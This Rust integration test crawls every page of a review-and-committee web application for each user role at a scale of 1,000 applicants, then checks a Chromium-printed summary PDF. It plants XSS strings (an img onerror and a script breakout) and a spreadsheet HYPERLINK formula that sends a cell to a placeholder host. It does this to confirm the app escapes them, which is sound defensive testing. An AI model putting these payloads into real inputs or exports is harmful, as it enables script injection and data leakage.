//! Every page of every role at venue size (issue 15): a generated session of 1,000 applicants,
//! 500 experts and 25 groups, with hostile text in a few fields, played to the report through
//! the library (HTTP would take minutes), then crawled over HTTP by one account per role:
//! every link the pages offer, every page of every list, the printouts and downloads, a sample
//! of the applicant pages. Then Chromium prints 汇总表 at that size and pdftotext reads it.

use crate::browser::{browser, go, login_fast};
use crate::common::{unescape, write_config, Client, Server};
use pingshen::demo::synthetic::{self, Size};
use std::collections::{BTreeSet, HashMap, VecDeque};

const HOSTILE_NAME: &str = "<img src=x onerror=alert(1)>";
const HOSTILE_UNIT: &str = "=HYPERLINK(\"http://x/?\"&A1,\"点我\")";
const HOSTILE_EXPERT: &str = "\"><script>alert(1)</script>";

struct Played {
    _tmp: tempfile::TempDir,
    server: Server,
    /// (role, username, password)
    accounts: Vec<(&'static str, String, String)>,
}

fn played_venue() -> Played {
    let size = Size::VENUE;
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let config = write_config(tmp.path(), "");
    let mut pkg = synthetic::package(size);
    pkg["applicants"][3]["name"] = HOSTILE_NAME.into();
    pkg["applicants"][4]["unit"] = HOSTILE_UNIT.into();
    pkg["experts"][25]["name"] = HOSTILE_EXPERT.into();
    let db = pingshen::store::Db::open(&data, 8).unwrap();
    synthetic::import(&db, &data, &pkg).unwrap();
    let admin = pingshen::accounts::ensure_admin(&db, 4).unwrap().unwrap();
    // The roles: leader of G000, a plain expert of G000 (hostile name), a committee member who
    // also sits in a group, a member only, the chair, the reporter.
    let roles = [
        ("leader", Size::expert(0)),
        ("expert", Size::expert(25)),
        ("member+expert", Size::expert(470)),
        ("member", Size::expert(495)),
        ("chair", size.chair()),
        ("reporter", size.reporter()),
    ];
    let codes: Vec<String> = roles.iter().map(|(_, c)| c.clone()).collect();
    let slips = pingshen::accounts::issue_passwords(&db, 4, Some(&codes), "test").unwrap();
    let mut accounts = vec![("admin", "admin".to_string(), admin)];
    for (role, code) in roles {
        let s = slips.iter().find(|s| s.code == code).unwrap();
        accounts.push((role, s.username.clone(), s.password.clone()));
    }
    synthetic::play_to_report(&db, size).unwrap();
    drop(db);
    let server = Server::spawn(&data, &config, &[]);
    Played { _tmp: tmp, server, accounts }
}

/// Resolves a link found on `from` (absolute path or `?query`) to a path on this server, or
/// `None` for what a crawl must not follow (other hosts, fragments, sign-out).
fn resolve(from: &str, href: &str) -> Option<String> {
    let href = unescape(href);
    let path = if let Some(q) = href.strip_prefix('?') {
        format!("{}?{q}", from.split('?').next().unwrap_or(from))
    } else if href.starts_with('/') && !href.starts_with("//") {
        href
    } else {
        return None;
    };
    let path = path.split('#').next().unwrap_or_default().to_string();
    (!path.is_empty() && !path.starts_with("/logout") && !path.starts_with("/static/")).then_some(path)
}

fn links(body: &str) -> Vec<String> {
    body.split("href=\"").skip(1).filter_map(|rest| rest.split('"').next()).map(str::to_string).collect()
}

/// Keeps every tenth-ish applicant page: enough to meet every group, not 1,000 fetches per role.
fn sampled(path: &str) -> bool {
    match path.strip_prefix("/applicants/A") {
        Some(n) => n.parse::<usize>().is_ok_and(|n| n % 97 == 0 || n < 5),
        None => true,
    }
}

/// Breadth-first over every link a signed-in role is offered; every answer must be 200 and
/// every HTML page whole, with the hostile text escaped.
fn crawl(c: &Client, role: &str) -> HashMap<String, String> {
    let mut seen = BTreeSet::new();
    let mut queue = VecDeque::from(["/".to_string()]);
    let mut pages = HashMap::new();
    while let Some(path) = queue.pop_front() {
        if !seen.insert(path.clone()) {
            continue;
        }
        assert!(seen.len() < 2_000, "{role}: the crawl does not end ({path})");
        let r = c.get(&path);
        if r.status == 303 {
            let to = r.location().and_then(|l| resolve(&path, l));
            queue.push_back(to.unwrap_or_else(|| panic!("{role} GET {path}: a redirect off the site")));
            continue;
        }
        assert_eq!(r.status, 200, "{role} GET {path}: {}", r.text().chars().take(400).collect::<String>());
        let html = r.header("Content-Type").is_some_and(|t| t.starts_with("text/html"));
        if !html {
            assert!(!r.bytes.is_empty(), "{role} GET {path}: an empty download");
            pages.insert(path, format!("download: {} bytes", r.bytes.len()));
            continue;
        }
        assert!(r.body.trim_end().ends_with("</html>"), "{role} GET {path}: a cut page");
        assert!(!r.body.contains("<img src=x") && !r.body.contains("<script>alert"), "{role} {path}: unescaped");
        for href in links(&r.body) {
            if let Some(next) = resolve(&path, &href) {
                if sampled(&next) && !seen.contains(&next) {
                    queue.push_back(next);
                }
            }
        }
        pages.insert(path, r.text());
    }
    pages
}

/// The codes of one kind (`A` + 5 digits, `E` + 4) found across the pages under `prefix`.
fn codes_on(pages: &HashMap<String, String>, prefix: &str, letter: char, digits: usize) -> BTreeSet<String> {
    let mut out = BTreeSet::new();
    for (path, text) in pages.iter().filter(|(p, _)| p.starts_with(prefix)) {
        let chars: Vec<char> = text.chars().collect();
        for i in 0..chars.len().saturating_sub(digits) {
            let is_code = chars[i] == letter
                && chars[i + 1..=i + digits].iter().all(char::is_ascii_digit)
                && chars.get(i + digits + 1).is_none_or(|c| !c.is_ascii_digit())
                && (i == 0 || !chars[i - 1].is_ascii_alphanumeric());
            if is_code {
                out.insert(chars[i..=i + digits].iter().collect::<String>());
            }
        }
        let _ = path;
    }
    out
}

#[test]
fn every_page_of_every_role_answers_at_venue_size() {
    let v = played_venue();
    let s = &v.server;
    let mut crawled = HashMap::new();
    for (role, user, pw) in &v.accounts {
        let c = s.login(user, pw);
        let pages = crawl(&c, role);
        let mut paths: Vec<&String> = pages.keys().filter(|p| !p.starts_with("/applicants/")).collect();
        paths.sort();
        eprintln!("{role}: {} pages: {paths:?}", pages.len());
        crawled.insert(*role, pages);
    }
    let admin = &crawled["admin"];
    // Every applicant and every expert is reachable through the console's paged lists.
    assert_eq!(codes_on(admin, "/admin/applicants", 'A', 5).len(), 1_000, "every applicant listed");
    assert_eq!(codes_on(admin, "/admin/experts", 'E', 4).len(), 500, "every expert listed");
    for path in ["/admin", "/admin/accounts", "/admin/attendance", "/admin/audit", "/minutes", "/summary"] {
        assert!(admin.contains_key(path), "admin never reached {path}");
    }
    assert!(admin["/admin"].contains("已上报"), "the phase after the report");
    // Each role sees its own pages and nothing of the others'.
    let leader = &crawled["leader"];
    for path in ["/review/assign", "/review/draft", "/review/ops", "/review/deliberate"] {
        assert!(leader.contains_key(path), "leader never reached {path}");
    }
    assert!(leader.keys().all(|p| !p.starts_with("/admin") && !p.starts_with("/committee/ops")));
    let reporter = &crawled["reporter"];
    // Every group opposed its every tenth applicant (4 of 40): 900 reached the committee.
    let reached = s.db().query_row("SELECT count(*) FROM group_decisions WHERE passed = 1", [], |r| r.get::<_, i64>(0));
    assert_eq!(reached.unwrap(), 900);
    assert_eq!(codes_on(reporter, "/committee/report", 'A', 5).len(), 900, "the report lists everyone");
    assert!(reporter.contains_key("/minutes") && reporter.contains_key("/summary"));
    let (_, user, pw) = v.accounts.iter().find(|a| a.0 == "reporter").unwrap();
    let c = s.login(user, pw);
    assert!(c.get("/committee/report?group=G003").text().contains("显示 36 / 共 900 人"));
    assert!(
        c.get("/committee/report?q=%E7%94%B3%E6%8A%A5%E4%BA%BA11").text().contains("显示 10 / 共 900 人"),
        "申报人110–119; 申报人11 failed in its group"
    );
    assert!(crawled["chair"].contains_key("/committee/ops"));
    assert!(crawled["member"].keys().all(|p| !p.starts_with("/review/")));
    assert!(
        crawled["member+expert"].contains_key("/review/draft")
            && crawled["member+expert"].contains_key("/committee/draft")
    );
    // The minutes name all 1,000 and the summary groups them, 25 groups with their totals.
    assert_eq!(codes_on(admin, "/minutes", 'A', 5).len(), 1_000);
    let summary = &admin["/summary"];
    assert_eq!(summary.matches("合计：申报 40 人").count(), 25, "25 groups of 40, each with its totals");
    assert!(summary.contains(HOSTILE_UNIT), "formula-like text shown as typed");

    // 汇总表 printed by Chromium at this size: group headings in order, totals, and the
    // signature block on the last page together with the last rows of the table.
    let Some(browser) = browser(1366, 768) else { return };
    let tab = browser.new_tab().unwrap();
    let (_, user, pw) = &v.accounts[0];
    login_fast(&tab, &s.base, user, pw);
    go(&tab, &s.base, "/summary");
    tab.wait_for_element("#summary-signatures").unwrap();
    let pdf = tab
        .print_to_pdf(Some(headless_chrome::types::PrintToPdfOptions {
            prefer_css_page_size: Some(true),
            ..Default::default()
        }))
        .unwrap();
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("summary.pdf");
    std::fs::write(&file, &pdf).unwrap();
    if let Ok(dir) = std::env::var("PINGSHEN_SCREENSHOTS") {
        std::fs::write(std::path::PathBuf::from(dir).join("summary-venue.pdf"), &pdf).unwrap();
    }
    let Some(all) = pdftotext(&file, None) else { return };
    let mut at = 0;
    for g in 0..25 {
        let heading = format!("第{g}组合计");
        let found = all[at..].find(&heading).unwrap_or_else(|| panic!("{heading} missing or out of order"));
        at += found + heading.len();
    }
    let pages = all.matches('\u{c}').count();
    assert!(pages > 10, "a 1,000-row summary is many pages ({pages})");
    let last = pdftotext(&file, Some(pages)).unwrap();
    assert!(last.contains("主任委员（签字）"), "signatures on the last page: {last}");
    assert!(last.contains("学校") && last.contains("合计"), "the signatures are not alone on the last page: {last}");
}

/// The text of a PDF (one page when asked), whitespace removed; `None` (skip) without pdftotext
/// outside CI.
fn pdftotext(file: &std::path::Path, page: Option<usize>) -> Option<String> {
    let mut cmd = std::process::Command::new("pdftotext");
    if let Some(p) = page {
        cmd.args(["-f", &p.to_string(), "-l", &p.to_string()]);
    }
    match cmd.arg(file).arg("-").output() {
        Ok(out) => {
            Some(String::from_utf8_lossy(&out.stdout).chars().filter(|c| !c.is_whitespace() || *c == '\u{c}').collect())
        }
        Err(_) if std::env::var("CI").is_ok_and(|v| v == "true") => panic!("pdftotext missing under CI"),
        Err(_) => {
            eprintln!("SKIP PDF text check: pdftotext not installed (apt-get install poppler-utils)");
            None
        }
    }
}
